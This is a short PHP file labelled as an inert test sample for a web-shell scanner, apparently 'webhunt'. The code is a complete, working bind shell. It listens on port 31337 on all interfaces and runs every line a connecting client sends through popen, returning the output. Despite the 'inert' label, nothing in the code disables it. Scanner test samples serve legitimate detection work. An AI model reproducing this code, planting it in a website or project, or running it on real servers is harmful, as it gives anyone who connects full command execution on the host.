<?php
// Inert test sample (webhunt): a bind shell. It listens on a high port and runs what each client
// types; whoever connects is the operator.
set_time_limit(0);
$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($srv, '0.0.0.0', 31337);
socket_listen($srv, 1);
while ($cli = socket_accept($srv)) {
    socket_write($cli, '$ ');
    while (($line = socket_read($cli, 2048, PHP_NORMAL_READ)) !== false) {
        $out = '';
        $ph = popen(trim($line), 'r');
        while ($ph && !feof($ph)) {
            $out .= fread($ph, 1024);
        }
        socket_write($cli, $out . '$ ');
    }
    socket_close($cli);
}
